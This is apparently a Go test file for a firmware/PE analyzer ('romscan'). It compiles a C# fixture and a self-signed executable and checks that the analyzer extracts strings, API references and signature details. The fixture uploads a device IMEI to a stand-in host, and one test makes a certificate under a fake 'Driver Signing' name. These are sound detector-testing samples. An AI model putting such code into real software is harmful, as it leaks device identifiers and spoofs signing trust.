package pe

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"testing"

	"romscan/analyzer/fact"
)

const program = `using System.Net; using System.Runtime.InteropServices;
public class Script {
	[DllImport("liblog.so")] static extern int __android_log_print(int level, string tag, string text);
	public static int Update(string imei) {
		new WebClient().UploadString("http://数据.example.cn/collect", imei + "https://mono.example.cn/v1");
		return __android_log_print(4, "tag", System.String.Empty);
	}
}`

// TestCompiled reads what Mono's compiler makes, which is what Unity made its scripts with.
func TestCompiled(t *testing.T) {
	if _, err := exec.LookPath("mcs"); err != nil {
		t.Skip("mcs is not installed")
	}
	dir := t.TempDir()
	src, dll := filepath.Join(dir, "x.cs"), filepath.Join(dir, "Assembly-CSharp.dll")
	if err := os.WriteFile(src, []byte(program), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("mcs", "-target:library", "-out:"+dll, src).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	data, err := os.ReadFile(dll)
	if err != nil {
		t.Fatal(err)
	}
	out := analyze(data)
	if len(out.Gaps) > 0 || len(out.Facts) != 1 || out.Facts[0].Fields.Get("assembly") != "Assembly-CSharp" {
		t.Fatalf("gaps %v, facts %v", out.Gaps, out.Facts)
	}
	want := map[fact.Kind][]string{
		"string": {"http://数据.example.cn/collect", "https://mono.example.cn/v1"},
		"member": {"System.Net.WebClient::UploadString", "System.Net.WebClient::.ctor", "System.String::Concat", "liblog.so!__android_log_print"},
	}
	for _, tab := range out.Tables {
		for _, w := range want[tab.Kind] {
			if !slices.Contains(tab.Values, w) {
				t.Errorf("%s %q is not among %q", tab.Kind, w, tab.Values)
			}
		}
		if slices.Contains(tab.Values, "System.String::Empty") {
			t.Error("a field is among the methods")
		}
		delete(want, tab.Kind)
	}
	if len(want) > 0 {
		t.Errorf("nothing of %v", want)
	}
}

// TestSigned signs what the compiler made with a certificate of its own, as osslsigncode does for Windows.
func TestSigned(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "x.cs"), []byte("class X { static void Main() {} }"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"mcs", "-out:x.exe", "x.cs"},
		{"openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem", "-subj", "/O=Example Phones/CN=Example Driver Signing", "-days", "30"},
		{"osslsigncode", "sign", "-certs", "cert.pem", "-key", "key.pem", "-in", "x.exe", "-out", "signed.exe"},
	} {
		if _, err := exec.LookPath(args[0]); err != nil {
			t.Skipf("%s is not installed", args[0])
		}
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", args, out)
		}
	}
	for name, want := range map[string]string{"x.exe": "no", "signed.exe": "yes"} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		out := analyze(data)
		if len(out.Gaps) > 0 || len(out.Facts) != 1 {
			t.Fatalf("%s: gaps %v, facts %v", name, out.Gaps, out.Facts)
		}
		f := out.Facts[0].Fields
		if f.Get("signed") != want || want == "yes" && f.Get("signer") != "Example Phones, Example Driver Signing" {
			t.Errorf("%s: %v", name, f)
		}
	}
}
